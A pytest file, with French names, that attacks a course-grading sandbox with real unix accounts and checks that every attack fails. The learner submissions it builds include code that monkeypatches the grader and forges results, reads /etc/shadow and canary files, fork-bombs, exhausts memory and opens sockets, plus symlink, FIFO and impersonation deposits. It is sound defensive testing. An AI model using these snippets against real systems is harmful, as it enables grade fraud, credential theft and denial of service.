"""A hostile session: every attack on grading as a submission, with real unix accounts.

Each attacker hands in the same work as a « témoin » (a witness learner without the
attack) plus the attack; its grade must equal the témoin's, nothing outside the
submission may be read, no process may survive grading, and the session goes on.
Deposits that are themselves attacks (links, pipes, huge files) go to quarantine.
Run as root (as CI is): accounts are created and removed by the test.
"""
from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import nbformat
import pytest

from course.answers_store import ANSWERS_FILENAME
from course.formation.session import load
from course.judge.sandbox import LOCKS, POOL_SIZE, SANDBOX_ACCOUNT, processes_of
from course.nbgrader_settings import command_env
from learners import (
    ASSIGNMENT, PANDAS_POINTS, QUIZ_ID, QUIZ_POINTS, RIGHT_CODE, SOURCE, WRONG_CODE, learner_copy,
    right_answers, wrong_answers,
)

pytestmark = [
    pytest.mark.nbgrader,
    pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("unshare"),
                       reason="la session hostile crée de vrais comptes unix et des espaces de noms : "
                              "elle demande root (c'est le cas en CI)"),
]

QUIZ_MAX = sum(QUIZ_POINTS.values())
PANDAS_MAX = sum(PANDAS_POINTS.values())
PREFIX = f"hx{secrets.token_hex(2)}"
CANARY = f"CANARI-{secrets.token_hex(8)}"
SECRET = f"SECRET-{secrets.token_hex(8)}"
# Files holding the canary; their names do not (the attacker prints the paths it tries).
CANARY_FILE = Path("/tmp") / f"canari-{secrets.token_hex(4)}.txt"
ROOT_CANARY = Path("/root") / f"canari-{secrets.token_hex(4)}.txt"


def attack_cell(code: str):
    """An edit that adds a learner's cell right after the exercise's answer cell."""
    def edit(nb):
        at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "jalons-reponse")
        nb.cells.insert(at + 1, nbformat.v4.new_code_cell(code))
    return edit


def reader_code(session: Path, exchange: Path, repo: Path) -> str:
    targets = [session / "gradebook.db", session / "source" / ASSIGNMENT / SOURCE.name, session / "rapports" / "canari.txt",
               session / "submitted", exchange / "test-hostile" / "inbound", repo / "solutions" / ASSIGNMENT / SOURCE.name,
               ROOT_CANARY, Path("/etc/shadow"), CANARY_FILE]
    return f"""
import glob, os
for chemin in {[str(t) for t in targets]!r}:
    try:
        if os.path.isdir(chemin):
            print("LU", chemin, os.listdir(chemin))
        else:
            print("LU", chemin, open(chemin, "rb").read(300))
    except Exception as exc:
        print("REFUS", chemin, type(exc).__name__)
print("ENV", dict(os.environ))
print("PROCESSUS", len([p for p in os.listdir("/proc") if p.isdigit()]))
"""


FORGE_REPORT = """
import json, os
for fd in range(0, 64):
    for index in range(0, 80):
        ligne = json.dumps({"index": index, "checks": {str(n): True for n in range(12)}, "outputs": []}) + "\\n"
        try:
            os.write(fd, ligne.encode())
        except OSError:
            break
"""

SURVIVOR = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
    os._exit(0)
"""

WRITER = f"""
for chemin in ["/tmp/{CANARY}-ecrit.txt", "{{session}}/ecrit-{CANARY}.txt", "/var/tmp/{CANARY}.txt"]:
    try:
        open(chemin, "w").write("x")
        print("ECRIT", chemin)
    except Exception as exc:
        print("REFUS", chemin, type(exc).__name__)
"""


def network_code(port: int) -> str:
    return f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"{CANARY}")
    print("RESEAU OUVERT")
except OSError as exc:
    print("RESEAU FERME", type(exc).__name__)
"""


def answers_bytes(content: str) -> bytes:
    return content.encode("utf-8")


def deep_answers() -> bytes:
    return ('{"quizzes": {"m0-evaluation": {"m0-eval-01": {"answer": ' + "[" * 100_000 + "]" * 100_000 + "}}}}").encode()


def big_int_answers() -> bytes:
    return ('{"quizzes": {"m0-evaluation": {"m0-eval-01": {"answer": ' + "7" * 5000 + "}}}}").encode()


@pytest.fixture(scope="module")
def hostile():
    from course.release import REPO

    import tempfile

    # Where learners can reach, as a training server's folders are (pytest's own temporary
    # folders are private to root, which would make the permission checks trivially pass).
    root = Path(tempfile.mkdtemp(prefix="formation-hostile-", dir="/tmp"))
    os.chmod(root, 0o755)
    folder, exchange = root / "session", root / "echange"
    port_server = socket.socket()
    port_server.bind(("127.0.0.1", 0))
    port_server.listen(5)
    port_server.settimeout(0.5)
    contacts = []

    def listen():
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline and not getattr(listen, "stop", False):
            try:
                contacts.append(port_server.accept()[0].recv(100))
            except OSError:
                continue
    threading.Thread(target=listen, daemon=True).start()
    CANARY_FILE.write_text(CANARY)
    ROOT_CANARY.write_text(CANARY)

    wrong, right = wrong_answers(), right_answers()
    write_right = f"""
import json
open("{ANSWERS_FILENAME}", "w").write(json.dumps({{"format": 1, "quizzes": {{"{QUIZ_ID}": {{q: {{"answer": a}} for q, a in {right!r}.items()}}}}}}))
"""
    # learner: (témoin, answers, code, notebook edit, deposit edit)
    plan = {
        "temoin-faux": (None, wrong, WRONG_CODE, None, None),
        "temoin-quiz": (None, right, WRONG_CODE, None, None),
        "temoin-code": (None, None, RIGHT_CODE, None, None),
        "victime": (None, right, RIGHT_CODE, None, None),
        # forging points
        "reaffecte": ("temoin-faux", wrong, WRONG_CODE, attack_cell(
            "import course.grading as g\ng.grade_question = lambda *a, **k: k['points']\n"
            "g.mark_question = lambda *a, **k: (a[3], [])\n"), None),
        "silence": ("temoin-faux", wrong, WRONG_CODE, attack_cell("get_ipython().ast_node_interactivity = 'none'"), None),
        "faux-rapport": ("temoin-faux", wrong, WRONG_CODE, attack_cell(FORGE_REPORT), None),
        "runner-patch": ("temoin-faux", wrong, WRONG_CODE, attack_cell(
            "import course.judge.runner as r\nr.to_plain = lambda *a, **k: True\n"
            "r.Runner.evaluate = lambda self, e: True\n"), None),
        "reponses-reecrites": ("temoin-faux", wrong, WRONG_CODE, attack_cell(write_right), None),
        "faux-resultat": ("temoin-faux", wrong, WRONG_CODE, attack_cell(
            "from IPython.display import display\ndisplay({'text/plain': '4'}, raw=True)\n4"), None),
        # reading what is not theirs
        "lecteur": ("temoin-faux", wrong, WRONG_CODE, attack_cell(reader_code(folder, exchange, REPO)), None),
        # processes, resources
        "survivant": ("temoin-faux", wrong, WRONG_CODE, attack_cell(SURVIVOR), None),
        "fourches": ("temoin-faux", wrong, WRONG_CODE, attack_cell(
            "import os\nfor _ in range(300):\n    try:\n        if os.fork() == 0:\n            import time; time.sleep(600)\n"
            "    except OSError:\n        break\n"), None),
        "boucle": ("temoin-faux", wrong, WRONG_CODE, attack_cell("while True:\n    pass"), None),
        "bavard": ("temoin-faux", wrong, WRONG_CODE, attack_cell("print('x' * (20 * 1024 * 1024))"), None),
        "memoire": ("temoin-faux", wrong, WRONG_CODE, attack_cell("tampon = bytearray(16 * 1024 ** 3)"), None),
        "ecrivain": ("temoin-faux", wrong, WRONG_CODE, attack_cell(WRITER.replace("{session}", str(folder))), None),
        "reseau": ("temoin-faux", wrong, WRONG_CODE, attack_cell(network_code(port_server.getsockname()[1])), None),
        # malformed files: the rest of the work is graded
        "profond": ("temoin-code", deep_answers(), RIGHT_CODE, None, None),
        "grand-entier": ("temoin-code", big_int_answers(), RIGHT_CODE, None, None),
        "gros-reponses": ("temoin-code", b" " * (5 * 1024 * 1024) + b"{}", RIGHT_CODE, None, None),
        "nb-liste": ("temoin-quiz", right, WRONG_CODE, None, lambda d: (d / SOURCE.name).write_text("[]")),
        "nb-cellules": ("temoin-quiz", right, WRONG_CODE, None,
                        lambda d: (d / SOURCE.name).write_text('{"cells": "x", "nbformat": 4}')),
        # deposits that are attacks: quarantined
        "lien-reponses": (None, None, RIGHT_CODE, None, "lien-reponses"),
        "lien-shadow": (None, None, RIGHT_CODE, None, "lien-shadow"),
        "lien-physique": (None, right, RIGHT_CODE, None, "lien-physique"),
        "fifo": (None, right, RIGHT_CODE, None, "fifo"),
        # A deposit without nbgrader's secret: graded, but its feedback cannot be released.
        "sans-secret": (None, right, RIGHT_CODE, None, "sans-secret"),
        "enorme": (None, right, RIGHT_CODE, None, "enorme"),
        "usurpateur": (None, right, RIGHT_CODE, None, "usurpateur"),
    }
    names = {learner: f"{PREFIX}{n:02d}" for n, learner in enumerate(plan)}
    try:
        for account in names.values():
            subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", account], check=True)

        def formation(*args, env=None, timeout=600):
            return subprocess.run([sys.executable, "-m", "course.formation.cli", "--session", str(folder), *map(str, args)],
                                  capture_output=True, text=True, env={**command_env(), **(env or {})}, timeout=timeout)

        assert formation("session", "creer", "--cours", "test-hostile", "--echange", exchange).returncode == 0
        config = folder / "nbgrader_config.py"
        config.write_text(config.read_text(encoding="utf-8") + "c.Execute.timeout = 5\n", encoding="utf-8")
        roster = root / "apprenants.csv"
        roster.write_text("identifiant;prenom;nom\n" + "".join(f"{a};{l};Fictif\n" for l, a in names.items()), encoding="utf-8")
        assert formation("apprenants", "importer", roster).returncode == 0
        assert formation("publier", "module0").returncode == 0
        (folder / "rapports").mkdir(exist_ok=True)
        (folder / "rapports" / "canari.txt").write_text(CANARY)
        session = load(folder)
        released = exchange / "test-hostile" / "outbound" / ASSIGNMENT
        inbound = exchange / "test-hostile" / "inbound"
        t0 = datetime(2026, 12, 1, 9, 0, tzinfo=timezone.utc)
        deposits = {}
        for n, (learner, (_, answers, code, edit, depot)) in enumerate(plan.items()):
            work = root / "copies" / learner
            learner_copy(released, work, answers if isinstance(answers, dict) else None, code)
            if edit:
                path = work / SOURCE.name
                nb = nbformat.read(path, as_version=4)
                edit(nb)
                nbformat.write(nb, path)
            if isinstance(answers, bytes):
                (work / ANSWERS_FILENAME).write_bytes(answers)
            if callable(depot):
                depot(work)
            account = names[learner]
            stamp = (t0 + timedelta(minutes=n)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
            claimed = names["victime"] if depot == "usurpateur" else account
            target = inbound / f"{claimed}+{ASSIGNMENT}+{stamp}+{secrets.token_hex(4)}"
            if depot == "usurpateur":
                # A link planted under the victim's name, pointing to the attacker's own folder.
                shutil.copytree(work, root / "usurpation")
                os.symlink(root / "usurpation", target)
                os.lchown(target, *(_ids(account)))
                deposits[learner] = target
                continue
            shutil.copytree(work, target)
            (target / "timestamp.txt").write_text(stamp, encoding="utf-8")
            (target / "submission_secret.txt").write_text(secrets.token_hex(16), encoding="utf-8")
            if depot == "lien-reponses":
                os.symlink(deposits["victime"] / ANSWERS_FILENAME, target / ANSWERS_FILENAME)
            elif depot == "lien-shadow":
                os.symlink("/etc/shadow", target / ANSWERS_FILENAME)
            elif depot == "sans-secret":
                (target / "submission_secret.txt").unlink()
            elif depot == "lien-physique":
                os.link(target / SOURCE.name, target / "copie.ipynb")
            elif depot == "fifo":
                os.mkfifo(target / "tube")
            elif depot == "enorme":
                with open(target / "donnees.bin", "wb") as handle:
                    handle.truncate(60 * 1024 * 1024)
            for path in [target, *target.rglob("*")]:
                os.lchown(path, *_ids(account))
            deposits[learner] = target
        collect = formation("collecter", "module0")
        started = time.monotonic()
        # corriger's output goes through a pipe: a survivor holding it would hang this call.
        grading = formation("corriger", "module0", env={"FORMATION_TEST_SECRET": SECRET}, timeout=900)
        grading_seconds = time.monotonic() - started
        survivors = _idle_pool_processes() + sum((_processes_of(a) for a in names.values()), [])
        feedback = formation("retours", "module0")
        listen.stop = True
        yield {"folder": folder, "exchange": exchange, "names": names, "plan": plan, "collect": collect,
               "grading": grading, "seconds": grading_seconds, "survivors": survivors, "feedback": feedback,
               "contacts": contacts, "session": session}
    finally:
        listen.stop = True
        port_server.close()
        for account in names.values():
            subprocess.run(["pkill", "-KILL", "-u", account], capture_output=True)
            subprocess.run(["userdel", account], capture_output=True)
        CANARY_FILE.unlink(missing_ok=True)
        ROOT_CANARY.unlink(missing_ok=True)
        if not os.environ.get("GARDER_SESSION_HOSTILE"):
            shutil.rmtree(root, ignore_errors=True)


def _ids(account: str) -> tuple[int, int]:
    import pwd

    entry = pwd.getpwnam(account)
    return entry.pw_uid, entry.pw_gid


def _idle_pool_processes() -> list[int]:
    """Processes of the sandbox accounts that no run holds now: survivors, by definition.

    An account whose lock is held belongs to a grading in progress elsewhere on the machine
    (another session, another test run): its processes are alive by right.
    """
    import fcntl

    found = []
    for number in range(POOL_SIZE):
        lock = LOCKS / f"{number}.verrou"
        if not lock.exists():
            continue
        fd = os.open(lock, os.O_RDWR)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            continue
        else:
            found += _processes_of(f"{SANDBOX_ACCOUNT}{number}")
        finally:
            os.close(fd)
    return found


def _processes_of(account: str) -> list[int]:
    import pwd

    try:
        return processes_of(pwd.getpwnam(account).pw_uid)
    except KeyError:
        return []


def total(hostile, learner: str) -> float | None:
    from nbgrader.api import MissingEntry

    with hostile["session"].gradebook() as gb:
        try:
            return round(gb.find_submission(ASSIGNMENT, hostile["names"][learner]).score, 2)
        except MissingEntry:
            return None


def outputs(hostile, learner: str) -> str:
    folder = hostile["folder"] / "autograded" / hostile["names"][learner] / ASSIGNMENT
    text = []
    for path in folder.glob("*.ipynb"):
        for cell in nbformat.read(path, as_version=4).cells:
            for output in cell.get("outputs", []):
                text.append(output.get("text", "") + json.dumps(output.get("data", {}), ensure_ascii=False))
    return "\n".join(text)


def test_the_session_goes_on_and_ends_with_a_french_summary(hostile):
    assert hostile["collect"].returncode == 0, hostile["collect"].stderr
    assert hostile["grading"].returncode == 0, hostile["grading"].stdout[-3000:] + hostile["grading"].stderr[-3000:]
    assert "Traceback" not in hostile["grading"].stdout + hostile["grading"].stderr
    assert "Correction de « module0 »" in hostile["grading"].stdout


def test_witnesses_get_what_their_work_is_worth(hostile):
    assert total(hostile, "temoin-faux") == 0
    assert total(hostile, "temoin-quiz") == QUIZ_MAX
    assert total(hostile, "temoin-code") == PANDAS_MAX
    assert total(hostile, "victime") == QUIZ_MAX + PANDAS_MAX


@pytest.mark.parametrize("learner", [
    "reaffecte", "silence", "faux-rapport", "runner-patch", "reponses-reecrites", "faux-resultat", "lecteur",
    "survivant", "fourches", "boucle", "bavard", "memoire", "ecrivain", "reseau",
    "profond", "grand-entier", "gros-reponses", "nb-liste", "nb-cellules",
])
def test_an_attack_earns_exactly_what_the_same_work_earns_without_it(hostile, learner):
    witness = hostile["plan"][learner][0]
    assert total(hostile, learner) == total(hostile, witness)


def test_nothing_outside_the_submission_is_read(hostile):
    seen = outputs(hostile, "lecteur")
    assert "REFUS" in seen, "la cellule d'attaque n'a pas tourné"
    for secret in (CANARY, SECRET, "grade_question", "expected", "BEGIN HIDDEN", "SQLite format"):
        assert secret not in seen
    assert not [line for line in seen.splitlines() if line.startswith("LU ")]
    processes = next(int(line.split()[1]) for line in seen.splitlines() if line.startswith("PROCESSUS"))
    assert processes <= 5, "le bac à sable voit les processus de la machine"


def test_nothing_is_written_outside_and_no_network(hostile):
    seen = outputs(hostile, "ecrivain")
    assert "ECRIT" not in seen and seen.count("REFUS") == 3
    assert not list(Path("/tmp").glob(f"{CANARY}-*")) and not list(Path("/var/tmp").glob(f"{CANARY}*"))
    assert not list(hostile["folder"].glob(f"ecrit-{CANARY}*"))
    assert "RESEAU FERME" in outputs(hostile, "reseau") and hostile["contacts"] == []


def test_no_process_survives_grading(hostile):
    assert hostile["survivors"] == []
    # The survivor's pipe: corriger returned as soon as grading ended, not when a child died.
    assert hostile["seconds"] < 600


def test_outputs_are_bounded_and_the_trainer_is_told(hostile):
    folder = hostile["folder"] / "autograded" / hostile["names"]["bavard"] / ASSIGNMENT
    assert (folder / SOURCE.name).stat().st_size < 1024 * 1024
    assert "sortie tronquée" in outputs(hostile, "bavard")
    line = next(l for l in hostile["grading"].stdout.splitlines() if hostile["names"]["bavard"] in l)
    assert "tronquée" in line
    feedback = hostile["folder"] / "feedback" / hostile["names"]["bavard"] / ASSIGNMENT
    assert all(p.stat().st_size < 1024 * 1024 for p in feedback.glob("*.html"))


def test_attack_deposits_are_quarantined_with_a_french_reason(hostile):
    journal = json.loads((hostile["folder"] / "quarantaine" / "journal.json").read_text(encoding="utf-8"))
    reasons = {entry["submission"]: entry["reason"] for entry in journal}
    names = hostile["names"]
    expected = {"lien-reponses": "lien symbolique", "lien-shadow": "lien symbolique", "lien-physique": "lien physique",
                "fifo": "tube nommé", "enorme": "pèse", "usurpateur": "déposée au nom de"}
    for learner, words in expected.items():
        matching = [r for s, r in reasons.items() if s.startswith(names["victime"] if learner == "usurpateur"
                                                                    else names[learner])]
        assert matching and words in matching[0], (learner, reasons)
        if learner != "usurpateur":
            assert total(hostile, learner) is None, f"{learner} : un dépôt refusé ne doit pas être noté"
    # Nothing a link pointed to was copied anywhere in the session.
    shadow = Path("/etc/shadow").read_bytes()[:40]
    for path in hostile["folder"].rglob("*"):
        if path.is_file() and not path.is_symlink() and path.stat().st_size < 5 * 1024 * 1024:
            assert shadow not in path.read_bytes(), path


def test_a_quarantined_deposit_is_not_collected_again(hostile):
    folder = hostile["folder"]
    again = subprocess.run([sys.executable, "-m", "course.formation.cli", "--session", str(folder), "collecter", "module0"],
                           capture_output=True, text=True, env=command_env(), timeout=300)
    assert again.returncode == 0 and "QUARANTAINE" not in again.stdout


def test_feedback_step_goes_on_and_says_in_french_what_failed(hostile):
    result = hostile["feedback"]
    assert result.returncode == 1, "un retour impossible à publier doit se voir dans le code de sortie"
    assert "Traceback" not in result.stdout + result.stderr and "FileNotFoundError" not in result.stdout
    line = next(l for l in result.stdout.splitlines() if hostile["names"]["sans-secret"] in l)
    assert "échec" in line and "submission_secret.txt absent" in line
    assert total(hostile, "sans-secret") == QUIZ_MAX + PANDAS_MAX  # graded all the same
    summary = next(l for l in result.stdout.splitlines() if l.startswith("Retours de") and " — " in l)
    assert "1 échec" in summary, summary


def test_session_tree_is_private(hostile):
    folder, exchange = hostile["folder"], hostile["exchange"]
    assert folder.stat().st_mode & 0o777 == 0o700
    assert (exchange.stat().st_mode & 0o7777) == 0o1777 and exchange.stat().st_uid == 0
    assert (exchange / "test-hostile" / "inbound").stat().st_mode & 0o777 == 0o733
    learner = hostile["names"]["temoin-faux"]
    probe = ("import pathlib, sys\n"
             "for p in sys.argv[1:]:\n"
             "    try:\n        pathlib.Path(p).read_bytes() if pathlib.Path(p).is_file() or not pathlib.Path(p).exists() "
             "else list(pathlib.Path(p).iterdir())\n        print('LU', p)\n"
             "    except OSError:\n        print('REFUS', p)\n")
    targets = [folder / "gradebook.db", folder / "source" / ASSIGNMENT / SOURCE.name, folder / "rapports",
               folder / "submitted", exchange / "test-hostile" / "inbound"]
    result = subprocess.run(["setpriv", "--reuid", learner, "--regid", learner, "--clear-groups", "/usr/bin/python3",
                             "-c", probe, *map(str, targets)], capture_output=True, text=True, timeout=60)
    assert result.stdout.count("REFUS") == len(targets), result.stdout + result.stderr
